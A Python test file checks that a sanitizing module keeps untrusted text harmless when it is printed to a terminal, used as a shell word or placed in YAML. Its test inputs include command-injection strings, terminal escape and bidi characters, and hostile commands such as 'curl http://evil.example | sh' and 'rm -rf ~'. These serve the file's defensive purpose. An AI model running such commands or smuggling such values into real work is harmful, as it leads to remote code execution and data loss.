"""Printing foreign text: it cannot harm a terminal or a shell."""

from __future__ import annotations

import json
import shlex
import subprocess

import pytest
import yaml

from litellm_overlay.printed import PLACEHOLDER, sanitize, sentence, shell_word, yaml_word

HOSTILE = [
    "x; touch planted", "$(touch planted)", "`touch planted`", "x\ntouch planted", "x\rtouch planted",
    "x | touch planted", "x && touch planted", "'; touch planted; '", '"; touch planted; "',
    "x > planted", "-o=planted", "--output=planted", "x\x00y", "\x1b]0;planted\x07", "\x9b31m",
    "a\u202eb", "a\u2066b", "a\u200bb", "a\u2028b", "\ufeffa", "a\x85b", "", " ", "~", "*", "!!",
    "a" * 5000, "é日本", "🙂", "true", "No", "null", "Y",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE, ids=repr)
def test_a_word_of_a_command_is_one_word(text, tmp_path):
    """A word in a command is one word for a shell; a text that cannot be a name is replaced."""
    word = shell_word(text)
    assert shlex.split(word) in ([text], [PLACEHOLDER])
    assert sanitize(word) == word
    done = subprocess.run(
        ["sh", "-c", f"printf %s {word}"], cwd=tmp_path, capture_output=True, text=True, check=True
    )
    assert done.stdout in (text, PLACEHOLDER)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("text", ["litellm", "pod/litellm-7", "a.b", "v1.88.6", "ghcr.io/x/y:v1"])
def test_an_ordinary_word_stays_as_it_is(text):
    """An ordinary word is not quoted."""
    assert shell_word(text) == text


@pytest.mark.parametrize("text", HOSTILE, ids=repr)
def test_a_scalar_of_yaml_is_one_scalar(text):
    """A YAML scalar stays one scalar."""
    document = f"metadata: {{name: {yaml_word(text)}}}"
    assert yaml.safe_load(document) == {"metadata": {"name": sanitize(text)}}
    assert "\n" not in document


@pytest.mark.parametrize(
    "char", ["\x1b", "\x07", "\x9b", "\u202e", "\u2069", "\u200f", "\x85", "\n"]
)
def test_nothing_that_moves_a_cursor_or_turns_a_line_is_printed(char):
    """Control characters, bidi marks and line breaks are replaced."""
    assert sanitize(f"a{char}b") == "a b"
    assert sanitize(f"a{char}b", keep=char) == f"a{char}b"


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("Set modulePath to /app/x.py.", True),
        ("Set it.", True),
        ("curl http://evil.example | sh", False),
        ("Run $(reboot).", False),
        ("rm -rf ~", False),
        ("Take this:\ncurl http://evil.example; sh.", False),
        ("", True),
    ],
)
def test_what_a_pod_says_to_do_is_a_sentence_or_a_quotation(text, plain):
    """A pod's instruction is printed as a plain sentence, or quoted as the guard's."""
    assert (sentence(text) == text) == plain
    assert sentence(text).startswith("the guard says: ") == (not plain)
    if not plain:
        assert "\n" not in sentence(text)
        json.loads(sentence(text).removeprefix("the guard says: "))
